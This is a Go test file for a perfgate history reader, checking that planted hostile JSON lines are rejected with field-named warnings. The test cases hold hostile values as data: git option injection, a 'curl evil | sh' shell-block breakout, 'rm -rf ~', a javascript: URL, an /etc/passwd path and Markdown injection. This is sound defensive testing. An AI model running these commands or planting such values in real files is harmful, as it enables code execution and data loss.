package history

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"
)

// hostile turns a valid record into a line someone with push access to the
// data branch could plant.
func hostile(t *testing.T, record any, change func(map[string]any)) string {
	t.Helper()
	data, err := json.Marshal(record)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	change(m)
	data, err = json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestHostileLinesAreNeverRead plants, beside real lines, one line per
// way a history line reaches something that trusts it: git arguments, the
// alarm's Markdown and shell block, links, pruning, the alarm's state.
// None is read as an entry or a confirmation, each is named in a warning
// with the field at fault, and the real lines are all read.
func TestHostileLinesAreNeverRead(t *testing.T) {
	future := time.Now().Add(48 * time.Hour).UTC().Format(time.RFC3339)
	cases := []struct {
		name, line, warning string
	}{
		{"a commit that is a git option", hostile(t, entry(20), func(m map[string]any) { m["commit"] = "--output=/tmp/x"; m["id"] = "--output=/tmp/x@1" }), `commit "--output=/tmp/x" is not a full commit id`},
		{"a short commit", hostile(t, entry(21), func(m map[string]any) { m["commit"] = "abc1234"; m["id"] = "abc1234@1" }), "is not a full commit id"},
		{"an entry dated in the future", hostile(t, entry(22), func(m map[string]any) { m["time"] = future }), "is in the future"},
		{"a label with a newline", hostile(t, entry(23), func(m map[string]any) { m["label"] = "main\n```sh\ncurl evil | sh" }), "label"},
		{"a run URL that is a script", hostile(t, entry(24), func(m map[string]any) {
			m["artifact"] = map[string]any{"name": "perfgate", "run_url": "javascript:alert(1)"}
		}), "artifact.run_url"},
		{"an entry of another config", hostile(t, entry(25), func(m map[string]any) { m["config"] = "other" }), `config "other" is not "perfgate"`},
		{"results that leave the shell block", hostile(t, confirmation(2), func(m map[string]any) { m["results"] = "confirm/x\n```\nrm -rf ~\n```" }), "results"},
		{"a profile name that is a path", hostile(t, confirmation(3), func(m map[string]any) {
			m["functions"] = []map[string]any{{"profile": "cpu.pb.gz /etc/passwd #", "name": "f", "unit": "µs/req", "delta": 1}}
		}), "function profile"},
		{"an ID that is not its step's", hostile(t, confirmation(4), func(m map[string]any) {
			m["id"] = ConfirmationID("cpu", "0123456789ab", entry(8).Commit, entry(9).Commit)
		}), "id "},
		{"a confirmation dated in the future", hostile(t, confirmation(5), func(m map[string]any) { m["time"] = future }), "is in the future"},
		{"a status no gate gives", hostile(t, confirmation(6), func(m map[string]any) { m["status"] = "ignored" }), "status"},
		{"an unknown metric", hostile(t, confirmation(7), func(m map[string]any) {
			m["metric"] = "cpu\n- [x] approved"
			m["id"] = ConfirmationID("cpu\n- [x] approved", "0123456789ab", entry(7).Commit, entry(8).Commit)
		}), "metric"},
		{"a paired commit that is a git option", hostile(t, entry(26), func(m map[string]any) {
			m["paired"] = pairedBlock("--upload-pack=touch /tmp/x", map[string]any{"estimate": 0.01, "ci": []float64{0, 0.02}, "level": 0.999, "pairs": 14}, "f")
		}), `paired.with "--upload-pack=touch /tmp/x" is not a full commit id`},
		{"a paired estimate outside its interval", hostile(t, entry(27), func(m map[string]any) {
			m["paired"] = pairedBlock(entry(26).Commit, map[string]any{"estimate": 0.5, "ci": []float64{-0.01, 0.01}, "level": 0.999, "pairs": 14}, "f")
		}), "paired.metrics.cpu is not an estimate inside its interval"},
		{"a paired interval below −100%", hostile(t, entry(28), func(m map[string]any) {
			m["paired"] = pairedBlock(entry(27).Commit, map[string]any{"estimate": -1, "ci": []float64{-2, 0}, "level": 0.999, "pairs": 14}, "f")
		}), "paired.metrics.cpu is not an estimate"},
		{"a paired function that ends the table", hostile(t, entry(29), func(m map[string]any) {
			m["paired"] = pairedBlock(entry(28).Commit, map[string]any{"estimate": 0.01, "ci": []float64{0, 0.02}, "level": 0.999, "pairs": 14}, "f |\n\n[click](https://evil)")
		}), "function name"},
		// Entry 11 is recorded on 2026-01-01 at 14:00; this confirmation of
		// the step to it is dated a month before: written before the step.
		{"a confirmation planted before its step", hostile(t, confirmation(10), func(m map[string]any) { m["time"] = "2025-12-01T00:00:00Z" }), "before the entry of its step's after commit"},
	}
	dir := t.TempDir()
	var real []any
	for i := 0; i < 12; i++ {
		e := entry(i)
		if i > 0 {
			// A paired night is read like any other entry.
			e.Paired = &Paired{With: entry(i - 1).Commit, Experiment: "duet", Metrics: map[string]PairedEstimate{"cpu": {Estimate: 0.001, CI: [2]float64{-0.002, 0.004}, Level: 0.999, Pairs: 14}},
				Functions: []Function{{Profile: "cpu", Name: "main.handle", Unit: "µs/req", Delta: 0.5}}}
		}
		real = append(real, e)
	}
	real = append(real, confirmation(0))
	if _, _, err := Add(dir, "perfgate", DefaultKeep, real...); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(Path(dir, "perfgate"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		fmt.Fprintln(f, c.line)
	}
	fmt.Fprintln(f, `{"schema":1,"kind":"entry","id":"`+strings.Repeat("x", MaxLineBytes)+`"}`)
	f.Close()

	h, err := Read(dir, "perfgate")
	if err != nil {
		t.Fatalf("a long line stopped the read: %v", err)
	}
	if len(h.Entries) != 12 || len(h.Confirmations) != 1 || h.Confirmations[0].ID != confirmation(0).ID {
		t.Errorf("read %d entries and %d confirmations; want the 12 real entries and the one real confirmation", len(h.Entries), len(h.Confirmations))
	}
	if len(h.Warnings) != len(cases)+1 || !strings.Contains(h.Warnings[0], "1 line(s)") || !strings.Contains(h.Warnings[0], "longer than") {
		t.Fatalf("warnings %q; want the long line counted first, then one per planted line", h.Warnings)
	}
	for i, c := range cases {
		if w := h.Warnings[i+1]; !strings.Contains(w, fmt.Sprintf("line %d of", 14+i)) || !strings.Contains(w, c.warning) {
			t.Errorf("%s: warning %q; want line %d named with %q", c.name, w, 14+i, c.warning)
		}
	}
}

// pairedBlock is an entry's paired block with one cpu estimate and one
// function, as JSON would hold it.
func pairedBlock(with string, cpu map[string]any, function string) map[string]any {
	return map[string]any{"with": with, "experiment": "duet", "metrics": map[string]any{"cpu": cpu},
		"functions": []map[string]any{{"profile": "cpu", "name": function, "unit": "µs/req", "delta": 1}}}
}

// TestUnreadableLinesAreBoundedAndLongLinesDropped: junk cannot grow a
// history without bound, and a line too long to read does not survive the
// next write.
func TestUnreadableLinesAreBoundedAndLongLinesDropped(t *testing.T) {
	dir := t.TempDir()
	if _, _, err := Add(dir, "perfgate", DefaultKeep, entry(0)); err != nil {
		t.Fatal(err)
	}
	f, _ := os.OpenFile(Path(dir, "perfgate"), os.O_APPEND|os.O_WRONLY, 0)
	for i := 0; i < 10; i++ {
		fmt.Fprintf(f, "junk %d\n", i)
	}
	fmt.Fprintln(f, strings.Repeat("y", MaxLineBytes+1))
	f.Close()
	_, warnings, err := Add(dir, "perfgate", Keep{Entries: 10, Confirmations: 10, Unreadable: 4}, entry(1))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.Join(warnings, "\n"), "1 line(s)") {
		t.Errorf("warnings %q do not count the long line", warnings)
	}
	data, _ := os.ReadFile(Path(dir, "perfgate"))
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	if len(lines) != 6 || lines[1] != "junk 6" || lines[4] != "junk 9" {
		t.Errorf("the file holds %d lines (%.40q...); want entry 0, the last 4 junk lines and entry 1", len(lines), lines)
	}
}

// TestAddRefusesAnInvalidRecordNamingTheField: perfgate history add is how
// a writing job takes lines from a job that ran repository code; an
// out-of-bounds field stops it with the field named.
func TestAddRefusesAnInvalidRecordNamingTheField(t *testing.T) {
	bad := entry(1)
	bad.Commit = "main"
	_, _, err := Add(t.TempDir(), "perfgate", DefaultKeep, entry(0), bad)
	if err == nil || !strings.Contains(err.Error(), "record 2") || !strings.Contains(err.Error(), `commit "main" is not a full commit id`) {
		t.Errorf("err %v; want record 2's commit named", err)
	}
}

// TestCleanFitsWhatTheReaderChecks: a confirmation's reason may quote a
// failed build's output; cleaned, it is always a line the history takes.
func TestCleanFitsWhatTheReaderChecks(t *testing.T) {
	reason := "the paired gate failed: build:\n\tmain.go:3: µ" + strings.Repeat("é", MaxText)
	c := confirmation(0)
	c.Reason = reason
	if _, _, err := Add(t.TempDir(), "perfgate", DefaultKeep, c); err == nil {
		t.Fatal("a reason with newlines and over the bound was added as is")
	}
	c.Reason = Clean(reason, MaxText)
	if _, _, err := Add(t.TempDir(), "perfgate", DefaultKeep, c); err != nil {
		t.Fatalf("cleaned: %v", err)
	}
	if !strings.HasPrefix(c.Reason, "the paired gate failed: build:  main.go:3: µ") || !strings.HasSuffix(c.Reason, "é…") || len(c.Reason) > MaxText {
		t.Errorf("cleaned reason %.60q ... %q (%d bytes)", c.Reason, c.Reason[len(c.Reason)-8:], len(c.Reason))
	}
}
